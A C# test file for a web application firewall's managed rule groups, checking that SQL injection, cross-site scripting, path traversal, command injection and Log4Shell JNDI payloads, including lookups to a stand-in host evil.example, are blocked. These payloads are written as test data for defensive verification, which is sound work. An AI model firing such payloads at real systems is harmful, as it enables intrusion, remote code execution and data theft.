using OrleansGateway.Edge.DataPlane.Waf;
using static OrleansGateway.Tests.Waf.Engine.WafTest;

namespace OrleansGateway.Tests.Waf.Engine;

/// <summary>The managed core rule group and referenced rule groups: flattening, exclusions, overrides, scope-down.</summary>
public sealed class RuleGroupTests
{
    private static string Managed(string vendor = "OrleansGateway", string name = "CoreRuleSet", string extra = "") => $$$"""
        {"ManagedRuleGroupStatement": {"VendorName": "{{{vendor}}}", "Name": "{{{name}}}"{{{extra}}}}}
        """;

    private static CompiledWebAcl CoreAcl(string extra = "", string overrideAction = """{"None": {}}""") =>
        Compile(Acl(rules: GroupRule("core", 0, Managed(extra: extra), overrideAction)));

    [Theory]
    [InlineData("/prod/items", "id=1%27%20OR%20%271%27%3D%271", "core/SQLi_QUERYARGUMENTS")]
    [InlineData("/prod/items", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "core/CrossSiteScripting_QUERYARGUMENTS")]
    [InlineData("/prod/items", "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "core/CrossSiteScripting_QUERYARGUMENTS")]
    [InlineData("/prod/files", "name=..%2F..%2F..%2Fetc%2Fpasswd", "core/GenericLFI_QUERYARGUMENTS")]
    [InlineData("/prod/run", "host=127.0.0.1%3B%20whoami", "core/CommandInjection_QUERYARGUMENTS")]
    [InlineData("/prod/items", "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "core/Log4JRCE_QUERYSTRING")]
    public void CoreRuleSetBlocksAttacksInTheQuery(string path, string query, string rule)
    {
        var acl = CoreAcl();

        var verdict = acl.Evaluate(Request(acl, path: path, query: query, headers: [("User-Agent", "Mozilla/5.0")]));

        Assert.Equal(WafActionKind.Block, verdict.Action);
        Assert.Equal(rule, verdict.RuleName);
    }

    [Fact]
    public void CoreRuleSetBlocksAttacksInJsonBodyValuesHeadersAndUserAgents()
    {
        var acl = CoreAcl();

        Assert.Equal("core/SQLi_BODY", acl.Evaluate(Request(acl, method: "POST", body: """{"name": "x' UNION SELECT password FROM users--"}""", headers: [("User-Agent", "Mozilla/5.0")])).RuleName);
        Assert.Equal("core/Log4JRCE_HEADER", acl.Evaluate(Request(acl, headers: [("User-Agent", "Mozilla/5.0"), ("X-Api-Version", "${jndi:ldap://evil.example/x}")])).RuleName);
        Assert.Equal("core/UserAgent_BadBots_HEADER", acl.Evaluate(Request(acl, headers: [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")])).RuleName);
    }

    [Fact]
    public void CoreRuleSetLetsOrdinaryRequestsThrough()
    {
        var acl = CoreAcl();

        var verdict = acl.Evaluate(Request(acl, method: "POST", path: "/prod/pets/42", query: "page=2&sort=name&q=O%27Brien%20and%20friends",
            headers: [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Cookie", "session=abc123; theme=dark"), ("Referer", "https://example.com/pets?page=1")],
            body: """{"name": "Rex", "tags": ["good boy", "fetch & play"], "owner": {"email": "jo@example.com", "note": "Call after 5 - ask for Jo's dad"}}"""));

        Assert.Equal(new WafVerdict(WafActionKind.Allow, null, null), verdict);
    }

    [Fact]
    public void ExcludedRuleOnlyCountsAndTheOthersStillBlock()
    {
        var acl = CoreAcl(""", "ExcludedRules": [{"Name": "SQLi_QUERYARGUMENTS"}]""");

        var sqli = Request(acl, query: "id=1%27%20OR%20%271%27%3D%271", headers: [("User-Agent", "Mozilla/5.0")]);
        Assert.Equal(WafActionKind.Allow, acl.Evaluate(sqli).Action);
        Assert.Contains("core/SQLi_QUERYARGUMENTS", sqli.CountedRules!);
        Assert.Equal(WafActionKind.Block, acl.Evaluate(Request(acl, query: "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", headers: [("User-Agent", "Mozilla/5.0")])).Action);
    }

    [Fact]
    public void RuleActionOverrideChangesOneRulesAction()
    {
        var acl = CoreAcl(""", "RuleActionOverrides": [{"Name": "UserAgent_BadBots_HEADER", "ActionToUse": {"Count": {}}}]""");

        var request = Request(acl, headers: [("User-Agent", "sqlmap/1.7")]);

        Assert.Equal(WafActionKind.Allow, acl.Evaluate(request).Action);
        Assert.Equal(["core/UserAgent_BadBots_HEADER"], request.CountedRules!);
    }

    [Fact]
    public void OverrideActionCountTurnsTheWholeGroupIntoCounting()
    {
        var acl = CoreAcl(overrideAction: """{"Count": {}}""");

        Assert.Equal(WafActionKind.Allow, acl.Evaluate(Request(acl, query: "id=1%27%20OR%20%271%27%3D%271", headers: [("User-Agent", "Mozilla/5.0")])).Action);
    }

    [Fact]
    public void ScopeDownStatementLimitsTheGroupToMatchingRequests()
    {
        var scope = """, "ScopeDownStatement": """ + ByteMatch("/prod/api", """{"UriPath": {}}""", "STARTS_WITH");
        var acl = CoreAcl(scope);

        Assert.Equal(WafActionKind.Allow, acl.Evaluate(Request(acl, path: "/prod/static", query: "id=1%27%20OR%20%271%27%3D%271", headers: [("User-Agent", "Mozilla/5.0")])).Action);
        Assert.Equal(WafActionKind.Block, acl.Evaluate(Request(acl, path: "/prod/api/x", query: "id=1%27%20OR%20%271%27%3D%271", headers: [("User-Agent", "Mozilla/5.0")])).Action);
    }

    [Fact]
    public void AwsManagedGroupNamesMapToTheMatchingSubset()
    {
        var acl = Compile(Acl(rules: GroupRule("aws-sqli", 0, Managed("AWS", "AWSManagedRulesSQLiRuleSet"))));

        Assert.All(acl.RuleNames, name => Assert.StartsWith("aws-sqli/SQLi_", name, StringComparison.Ordinal));
        Assert.Equal(WafActionKind.Allow, acl.Evaluate(Request(acl, query: "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", headers: [("User-Agent", "Mozilla/5.0")])).Action);
    }

    [Fact]
    public void UnknownManagedGroupOrExcludedRuleIsRefused()
    {
        Assert.Contains("AWSManagedRulesBotControlRuleSet", CompileFails(Acl(rules: GroupRule("bots", 0, Managed("AWS", "AWSManagedRulesBotControlRuleSet")))).Message, StringComparison.Ordinal);
        Assert.Contains("NoSuchRule", CompileFails(Acl(rules: GroupRule("core", 0, Managed(extra: """, "ExcludedRules": [{"Name": "NoSuchRule"}]""")))).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void ReferencedRuleGroupIsFlattenedInPlaceWithItsOwnPriorities()
    {
        var references = new WafTestReferences();
        references.RuleGroups["arn:aws:wafv2:us-east-1:123456789012:regional/rulegroup/my-group/abc"] = "[" +
            Rule("second", 2, ByteMatch("b", """{"UriPath": {}}""")) + "," + Rule("first", 1, ByteMatch("a", """{"UriPath": {}}"""), """{"Count": {}}""") + "]";
        var group = """{"RuleGroupReferenceStatement": {"ARN": "arn:aws:wafv2:us-east-1:123456789012:regional/rulegroup/my-group/abc"}}""";
        var acl = Compile(Acl(rules: [Rule("before", 0, ByteMatch("zzz", """{"UriPath": {}}""")), GroupRule("mine", 1, group), Rule("after", 2, ByteMatch("zzz", """{"UriPath": {}}"""))]), references);

        Assert.Equal(["before", "mine/first", "mine/second", "after"], acl.RuleNames);
        var request = Request(acl, path: "/ab");
        Assert.Equal("mine/second", acl.Evaluate(request).RuleName);
        Assert.Equal(["mine/first"], request.CountedRules!);
    }

    [Fact]
    public void RuleGroupInsideARuleGroupIsRefused()
    {
        var references = new WafTestReferences();
        references.RuleGroups["arn:g"] = "[" + GroupRule("nested", 0, Managed()) + "]";

        var error = CompileFails(Acl(rules: GroupRule("outer", 0, """{"RuleGroupReferenceStatement": {"ARN": "arn:g"}}""")), references);

        Assert.Contains("cannot contain a rule group", error.Message, StringComparison.Ordinal);
    }
}
